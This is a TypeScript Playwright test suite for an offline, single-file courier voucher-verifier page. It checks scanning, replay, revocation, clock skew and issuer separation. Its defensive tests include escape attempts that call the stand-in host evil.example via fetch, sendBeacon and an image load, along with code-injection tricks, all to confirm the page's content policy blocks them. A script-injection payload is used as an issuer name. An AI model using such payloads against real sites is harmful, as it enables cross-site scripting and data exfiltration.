import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { COMPILE_CACHE } from "../../../../tools/compile-cache.ts";
import { goHome, green, newPhone, openVan, press, red, scan, type Van } from "../fixtures/drive-app.ts";
import { type IssuerProcess, startIssuerProcess, type Voucher } from "../fixtures/issuer-process.ts";

// What `doorproof publish-verifier` writes, on the phone of a courier who has nothing else: the real command, the real
// issuer, a real browser.

let issuer: IssuerProcess;
let van: Van;
let folder: string;
let path: string;
let phone: BrowserContext;
let number = 0;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "doorproof-page-"));
  [issuer, van] = await Promise.all([startIssuerProcess(), openVan()]);
  path = await publish("today.html");
});
afterAll(async () => {
  await van?.close();
  await issuer?.close();
  await rm(folder, { recursive: true });
});
beforeEach(async () => {
  phone = await newPhone(van);
});
afterEach(() => phone.close());

async function publish(name: string, ...options: readonly string[]): Promise<string> {
  const output = join(folder, name);
  await issuer.run("publish-verifier", "--keys", join(issuer.keys, "keys.cose"), "-o", output, ...options);
  return output;
}

const issue = (): Promise<Voucher> => issuer.issue({ deliveryId: `PAGE-${++number}` });

async function open(file: string): Promise<Page> {
  const page = await phone.newPage();
  await page.goto(pathToFileURL(file).href);
  await page.locator(".frame-stops").waitFor();
  return page;
}

async function compare(page: Page, deliveryId: string): Promise<void> {
  await page.locator("#delivery").fill(deliveryId);
  await press(page, "Compare with this label");
}

async function load(page: Page, file: string): Promise<void> {
  await page.locator(".facts").click();
  await page.locator(".frame-device input[type=file]").setInputFiles(file);
  await press(page, "Back");
}

describe("from a file, without a server", () => {
  test("scans, remembers over a reload, and asks for nothing", async () => {
    const [one, two] = [await issue(), await issue()];
    const page = await open(path);
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await compare(page, one.deliveryId);
    await scan(van, page, one.voucher);
    expect(await green(page)).toBe(one.deliveryId);
    await page.reload();
    await page.locator(".frame-stops").waitFor();
    await scan(van, page, one.voucher);
    expect(await red(page)).toBe("Already used");
    await goHome(page);
    await compare(page, "ANOTHER-1");
    await scan(van, page, two.voucher);
    expect(await red(page)).toBe("Other parcel");
    expect(asked.filter((url) => !url.startsWith("blob:") && url !== pathToFileURL(path).href)).toEqual([]);
  });

  test("its records reach the issuer as a file, and its answer comes back as one", async () => {
    const voucher = await issue();
    const page = await open(path);
    await compare(page, voucher.deliveryId);
    await scan(van, page, voucher.voucher);
    await green(page);

    await page.locator(".facts").click();
    const download = page.waitForEvent("download");
    await press(page, "Save unsent records as a file");
    const records = await readFile(await (await download).path(), "utf8");
    const courier = (
      await issuer.run("api-key", "create", "--name", "courier", "--scope", "redeem", "--courier", "*")
    ).trim();
    const headers = { authorization: `Bearer ${courier}`, "content-type": "application/json" };
    const answer = await fetch(`${issuer.origin}/v1/redemptions`, { method: "POST", headers, body: records });
    expect(answer.status).toBe(200);
    const [redemption] = (await issuer.redemptions()).filter(({ deliveryId }) => deliveryId === voucher.deliveryId);
    expect(redemption).toMatchObject({ status: "accepted", via: "scan" });

    await writeFile(join(folder, "answer.json"), await answer.text());
    await press(page, "Back");
    await load(page, join(folder, "answer.json"));
    await press(page, "Log");
    await page.getByText("Sent and accepted").waitFor();
  });

  test("a withdrawn voucher is red once the page has a newer list, and stays so when an older page is opened", async () => {
    const [one, two] = [await issue(), await issue()];
    const page = await open(path);
    for (const { id } of [one, two]) await issuer.reissue({ id } as Voucher);
    await issuer.run("keys", "publish");
    await load(page, join(issuer.keys, "revocations.cose"));
    await compare(page, one.deliveryId);
    await scan(van, page, one.voucher);
    expect(await red(page)).toBe("Withdrawn");
    await page.close();
    const older = await open(path);
    await compare(older, two.deliveryId);
    await scan(van, older, two.voucher);
    expect(await red(older)).toBe("Withdrawn");
  });

  test("a newer page takes over what an older one remembers", async () => {
    const voucher = await issue();
    const page = await open(path);
    await compare(page, voucher.deliveryId);
    await scan(van, page, voucher.voucher);
    await green(page);
    await page.close();
    await issuer.run("keys", "publish");
    const newer = await open(await publish("tomorrow.html"));
    await compare(newer, voucher.deliveryId);
    await newer.getByText("This stop is closed").waitFor();
    await goHome(newer);
    await scan(van, newer, voucher.voucher);
    expect(await red(newer)).toBe("Already used");
  });

  test("a clock that was set back is red, opened again too, until a newer page comes", async () => {
    const [one, two] = [await issue(), await issue()];
    const page = await open(path);
    await page.evaluate(() => {
      globalThis.skew = 3600;
    });
    await compare(page, one.deliveryId);
    await scan(van, page, one.voucher);
    await green(page);
    await page.close();
    const again = await open(path);
    await scan(van, again, two.voucher);
    expect(await red(again)).toBe("Clock wrong");
    await again.close();
    await issuer.run("keys", "publish");
    const newer = await open(await publish("after-the-clock.html"));
    await compare(newer, two.deliveryId);
    await scan(van, newer, two.voucher);
    expect(await green(newer)).toBe(two.deliveryId);
  });

  test("with a bare key set every verdict says what nobody knows", async () => {
    const output = join(folder, "bare.html");
    await issuer.run("publish-verifier", "--keys", join(issuer.keys, "jwks.json"), "-o", output);
    const voucher = await issue();
    const page = await open(output);
    await compare(page, voucher.deliveryId);
    await scan(van, page, voucher.voucher);
    await page.locator(".result-decide").waitFor();
    expect(await page.locator(".notes li").allTextContents()).toEqual([
      "The keys came without a signature.",
      "There is no list of withdrawn vouchers here.",
      "Whose stop it is was not checked.",
    ]);
    await press(page, "Hand over");
    expect(await green(page)).toBe(voucher.deliveryId);
  });

  test("two issuers' pages on one phone keep apart", async () => {
    const voucher = await issue();
    const keys = join(folder, "other-keys");
    const cli = join(import.meta.dirname, "../../../cli/src/main.ts");
    const other = (...words: string[]) =>
      promisify(execFile)(process.execPath, [cli, ...words], { env: COMPILE_CACHE });
    await other("keys", "init", "--dir", keys, "--issuer", "</script><script>alert(1)</script>");
    await other("publish-verifier", "--keys", join(keys, "keys.cose"), "-o", join(folder, "other.html"));
    const mine = await open(path);
    const theirs = await open(join(folder, "other.html"));
    expect(await theirs.locator("h1").textContent()).toBe("</script><script>alert(1)</script>");
    await compare(theirs, voucher.deliveryId);
    await scan(van, theirs, voucher.voucher);
    expect(await red(theirs)).toBe("Not ours");
    await mine.bringToFront();
    await compare(mine, voucher.deliveryId);
    await scan(van, mine, voucher.voucher);
    expect(await green(mine)).toBe(voucher.deliveryId);
  });
});

/** What a page that was changed on its way might try: each ends in "ran" if nothing stops it. */
const ESCAPES: Readonly<Record<string, () => Promise<string> | string>> = {
  "a connection": () => fetch("https://evil.example/").then(() => "ran"),
  "a connection to where it came from": () => fetch(location.href).then(() => "ran"),
  // It answers true as soon as it is queued: that it goes nowhere is said by the policy.
  "a beacon": () => String(navigator.sendBeacon("https://evil.example/")),
  // In a turn of its own: a debugger's evaluation, which this runs in, may do what the page may not.
  "code from a text": () =>
    new Promise((done, fail) => {
      setTimeout(() => {
        try {
          done(new Function("return 'ran'")());
        } catch (error) {
          fail(error);
        }
      });
    }),
  "another script": () => {
    document.body.append(Object.assign(document.createElement("script"), { textContent: "document.title = 'ran'" }));
    return document.title;
  },
  "a picture from elsewhere": () =>
    new Promise((done) => {
      const picture = new Image();
      picture.onload = () => done("ran");
      picture.onerror = () => done("blocked");
      picture.src = "https://evil.example/x.png";
    }),
};

describe("its policy", () => {
  test.each(Object.entries(ESCAPES))("forbids %s", async (_, attempt) => {
    const page = await open(path);
    await page.evaluate(() => {
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        document.documentElement.dataset["violated"] = effectiveDirective;
      });
    });
    expect(await page.evaluate(attempt).catch(() => "blocked")).not.toBe("ran");
    await page.waitForFunction(() =>
      /^(connect|script|img)-src/.test(document.documentElement.dataset["violated"] ?? ""),
    );
  });

  test("stands in the page, and names script and style by their hashes", async () => {
    const html = await readFile(path, "utf8");
    const [, policy = ""] = /http-equiv="content-security-policy" content="([^"]+)"/.exec(html) ?? [];
    expect(policy.replaceAll(/sha256-[\w+/=]{44}/g, "HASH").split("; ")).toEqual([
      "default-src 'none'",
      "script-src 'HASH' 'wasm-unsafe-eval'",
      "style-src 'HASH'",
      "worker-src blob:",
      "img-src blob: data:",
      "media-src blob:",
      "base-uri 'none'",
      "form-action 'none'",
    ]);
    expect(html.indexOf("content-security-policy")).toBeLessThan(html.search(/<script|<style|<link/));
    for (const [name, seed] of await issuer.privateData()) {
      expect(html, name).not.toContain(Buffer.from(seed).toString("base64"));
      expect(html, name).not.toContain(Buffer.from(seed).toString("hex"));
    }
  });
});

describe("from a web server that knows nothing of it", () => {
  let server: Server;
  beforeAll(async () => {
    const html = await readFile(path);
    server = createServer((_request, response) => response.writeHead(200, { "content-type": "text/html" }).end(html));
    await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  });
  afterAll(() => new Promise((closed) => server.close(closed)));

  test("it is the same page", async () => {
    const voucher = await issue();
    const page = await phone.newPage();
    await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/verifier.html`);
    await phone.setOffline(true);
    await scan(van, page, voucher.voucher);
    await page.locator(".result-decide").waitFor();
    await press(page, "Yes, this parcel");
    expect(await green(page)).toBe(voucher.deliveryId);
    expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then(({ length }) => length))).toBe(0);
  });
});
